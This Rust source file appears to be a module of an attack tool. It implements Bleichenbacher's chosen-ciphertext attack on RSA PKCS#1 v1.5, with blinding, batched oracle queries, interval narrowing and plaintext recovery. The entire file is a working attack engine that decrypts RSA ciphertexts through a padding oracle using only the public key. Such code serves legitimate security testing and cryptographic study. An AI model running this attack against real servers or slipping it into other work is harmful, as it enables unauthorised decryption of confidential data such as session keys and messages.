//! Bleichenbacher's adaptive chosen-ciphertext attack on PKCS#1 v1.5.
//!
//! Given a ciphertext `c` and an [`Oracle`] telling whether `c·s^e mod n`
//! decrypts to a conformant type 2 block, the attack narrows a set of
//! intervals known to contain the plaintext until one value is left.
//!
//! The engine only uses the public key. Candidates are queried in batches
//! of `workers` through a [`QueryPool`], and the first conformant candidate
//! in search order wins. With one worker no query is wasted. With more,
//! the same `s` values are found and some speculative queries are spent.
use crate::config::AttackConfig;
use crate::error::Error;
use crate::oracle::{Oracle, QueryPool};
use crate::report::{Event, LogReporter, Reporter};
use crate::rsa::to_k_bytes;
use crate::workflow::CancelToken;
use log::{debug, info};
use num_bigint::BigUint;
use num_integer::Integer;
use num_traits::{One, Zero};
use std::fmt;
use std::sync::Arc;

/// Closed interval `[lo, hi]` of candidate plaintexts.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Interval {
    pub lo: BigUint,
    pub hi: BigUint,
}

impl fmt::Display for Interval {
    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
        write!(f, "[{:x}, {:x}]", self.lo, self.hi)
    }
}

fn describe(intervals: &[Interval]) -> String {
    intervals
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join(", ")
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackResult {
    /// Recovered plaintext, left padded to the modulus length.
    pub plaintext: Vec<u8>,
    /// Oracle queries spent by this attack.
    pub queries: u64,
    pub iterations: u64,
    /// Blinding factor found in step 1.
    pub s0: BigUint,
}

/// `lo, lo + 1, ...` up to `hi` inclusive, or without end.
fn counting_from(lo: BigUint, hi: Option<BigUint>) -> impl Iterator<Item = BigUint> {
    std::iter::successors(Some(lo), |s| Some(s + 1u32)).take_while(move |s| hi.as_ref().map_or(true, |hi| s <= hi))
}

pub struct Bleichenbacher<'a> {
    oracle: &'a dyn Oracle,
    config: AttackConfig,
    reporter: Arc<dyn Reporter>,
    cancel: CancelToken,
    n: BigUint,
    k: usize,
    /// `2B`
    lower: BigUint,
    /// `3B - 1`
    upper: BigUint,
}

/// Search state carried between iterations.
struct Progress {
    c0: BigUint,
    s0: BigUint,
    s: BigUint,
    intervals: Vec<Interval>,
    start_queries: u64,
}

impl<'a> Bleichenbacher<'a> {
    pub fn new(oracle: &'a dyn Oracle, config: AttackConfig) -> Self {
        let public_key = oracle.public_key();
        let k = oracle.block_size();
        let b = BigUint::one() << (8 * k.saturating_sub(2));
        Self {
            oracle,
            config,
            reporter: Arc::new(LogReporter),
            cancel: CancelToken::new(),
            n: public_key.n.clone(),
            k,
            lower: &b * 2u32,
            upper: &b * 3u32 - 1u32,
        }
    }

    #[must_use]
    pub fn with_reporter(mut self, reporter: Arc<dyn Reporter>) -> Self {
        self.reporter = reporter;
        self
    }

    #[must_use]
    pub fn with_cancel_token(mut self, cancel: CancelToken) -> Self {
        self.cancel = cancel;
        self
    }

    /// `c·s^e mod n` as a `k`-byte query, or `c·s mod n` for plaintext oracles.
    fn prepare_query(&self, c: &BigUint, s: &BigUint) -> Vec<u8> {
        let blinded = if self.oracle.is_plaintext_oracle() {
            (c * s) % &self.n
        } else {
            (c * s.modpow(&self.oracle.public_key().e, &self.n)) % &self.n
        };
        to_k_bytes(&blinded, self.k)
    }

    fn remaining_budget(&self, start_queries: u64) -> Result<usize, Error> {
        let Some(max) = self.config.max_queries else {
            return Ok(self.config.workers);
        };
        let used = self.oracle.queries().saturating_sub(start_queries);
        let left = max.saturating_sub(used);
        if left == 0 {
            return Err(Error::BudgetExhausted(max));
        }
        Ok(usize::try_from(left).map_or(self.config.workers, |left| left.min(self.config.workers)))
    }

    /// First candidate `s` for which `c0·s^e` is conformant.
    ///
    /// Returns `None` when a bounded candidate range runs out.
    fn search(
        &self,
        c0: &BigUint,
        mut candidates: impl Iterator<Item = BigUint>,
        start_queries: u64,
    ) -> Result<Option<BigUint>, Error> {
        let pool = QueryPool::new(self.oracle, self.config.workers);
        loop {
            if self.cancel.is_cancelled() {
                return Err(Error::Cancelled);
            }
            let batch_size = self.remaining_budget(start_queries)?;
            let batch: Vec<BigUint> = candidates.by_ref().take(batch_size).collect();
            if batch.is_empty() {
                return Ok(None);
            }
            let queries = batch.iter().map(|s| self.prepare_query(c0, s)).collect();
            for (index, _, answer) in pool.run(queries) {
                if answer? {
                    return Ok(batch.into_iter().nth(index));
                }
            }
        }
    }

    /// Runs the attack on `ciphertext`.
    ///
    /// # Errors
    /// Oracle errors abort the attack. `OracleInconsistency` when the
    /// oracle's answers contradict each other, `Numeric` when the interval
    /// set empties later on, `BudgetExhausted` when the query budget runs out.
    pub fn run(&self, ciphertext: &[u8]) -> Result<AttackResult, Error> {
        self.config.validate()?;
        let c = BigUint::from_bytes_be(ciphertext);
        if ciphertext.len() > self.k || c >= self.n {
            return Err(Error::Config("ciphertext is not smaller than the modulus".into()));
        }
        let start_queries = self.oracle.queries();
        info!("Starting attack on a {}-byte modulus with {} worker(s)", self.k, self.config.workers);

        let s0 = self
            .search(&c, counting_from(BigUint::one(), None), start_queries)?
            .ok_or_else(|| Error::OracleInconsistency("no blinding value found".into()))?;
        let c0 = BigUint::from_bytes_be(&self.prepare_query(&c, &s0));
        debug!("Blinding done with s0 = {s0:x}");

        let mut progress = Progress {
            c0,
            s0,
            s: BigUint::zero(),
            intervals: vec![Interval {
                lo: self.lower.clone(),
                hi: self.upper.clone(),
            }],
            start_queries,
        };
        let mut iteration = 1u64;
        loop {
            progress.s = self.next_s(&progress, iteration)?;
            let narrowed = self.narrow(&progress.intervals, &progress.s);
            if narrowed.is_empty() {
                return Err(if iteration == 1 {
                    Error::OracleInconsistency(format!("no interval left after s1 = {:x}", progress.s))
                } else {
                    Error::Numeric {
                        reason: format!("no interval left in iteration {iteration} with s = {:x}", progress.s),
                        intervals: describe(&progress.intervals),
                    }
                });
            }
            progress.intervals = narrowed;
            self.report_progress(iteration, &progress);
            let solved = match progress.intervals.as_slice() {
                [Interval { lo, hi }] if lo == hi => Some(lo.clone()),
                _ => None,
            };
            if let Some(a) = solved {
                return self.finish(&a, progress, iteration);
            }
            iteration += 1;
        }
    }

    fn next_s(&self, progress: &Progress, iteration: u64) -> Result<BigUint, Error> {
        let exhausted = || Error::Numeric {
            reason: "candidate search ended without a conformant value".into(),
            intervals: describe(&progress.intervals),
        };
        let c0 = &progress.c0;
        let start = progress.start_queries;
        if iteration == 1 {
            let from = Integer::div_ceil(&self.n, &(&self.upper + 1u32));
            return self.search(c0, counting_from(from, None), start)?.ok_or_else(exhausted);
        }
        let [Interval { lo: a, hi: b }] = progress.intervals.as_slice() else {
            let from = &progress.s + 1u32;
            return self.search(c0, counting_from(from, None), start)?.ok_or_else(exhausted);
        };
        let mut r = Integer::div_ceil(&((b * &progress.s - &self.lower) * 2u32), &self.n);
        loop {
            let rn = &r * &self.n;
            let from = Integer::div_ceil(&(&self.lower + &rn), b);
            let to = (&self.upper + &rn) / a;
            if let Some(s) = self.search(c0, counting_from(from, Some(to)), start)? {
                return Ok(s);
            }
            r += 1u32;
        }
    }

    /// Step 3: intersects every interval with the ranges allowed by `s`.
    fn narrow(&self, intervals: &[Interval], s: &BigUint) -> Vec<Interval> {
        let mut narrowed = Vec::new();
        for Interval { lo: a, hi: b } in intervals {
            let a_s = a * s;
            // a·s - 3B + 1, floored at zero
            let low_product = if a_s >= self.upper { a_s - &self.upper } else { BigUint::zero() };
            let r_from = Integer::div_ceil(&low_product, &self.n);
            let b_s = b * s;
            if b_s < self.lower {
                continue;
            }
            let r_to = (b_s - &self.lower) / &self.n;
            for r in counting_from(r_from, Some(r_to)) {
                let rn = &r * &self.n;
                let lo = Integer::div_ceil(&(&self.lower + &rn), s).max(a.clone());
                let hi = ((&self.upper + &rn) / s).min(b.clone());
                if lo <= hi {
                    narrowed.push(Interval { lo, hi });
                }
            }
        }
        narrowed.sort();
        let mut merged: Vec<Interval> = Vec::with_capacity(narrowed.len());
        for interval in narrowed {
            match merged.last_mut() {
                Some(last) if interval.lo <= &last.hi + 1u32 => {
                    if interval.hi > last.hi {
                        last.hi = interval.hi;
                    }
                }
                _ => merged.push(interval),
            }
        }
        merged
    }

    fn report_progress(&self, iteration: u64, progress: &Progress) {
        let width_bits = progress
            .intervals
            .iter()
            .map(|interval| (&interval.hi - &interval.lo).bits())
            .max()
            .unwrap_or(0);
        self.reporter.report(Event::AttackProgress {
            iteration,
            intervals: progress.intervals.len(),
            queries: self.oracle.queries().saturating_sub(progress.start_queries),
            width_bits,
        });
    }

    /// Step 4: unblinds the single remaining value.
    fn finish(&self, a: &BigUint, progress: Progress, iterations: u64) -> Result<AttackResult, Error> {
        let inverse = progress.s0.modinv(&self.n).ok_or_else(|| Error::Numeric {
            reason: format!("s0 = {:x} has no inverse modulo n", progress.s0),
            intervals: describe(&progress.intervals),
        })?;
        let m = (a * inverse) % &self.n;
        let queries = self.oracle.queries().saturating_sub(progress.start_queries);
        info!("Plaintext recovered after {iterations} iterations and {queries} queries");
        Ok(AttackResult {
            plaintext: to_k_bytes(&m, self.k),
            queries,
            iterations,
            s0: progress.s0,
        })
    }
}
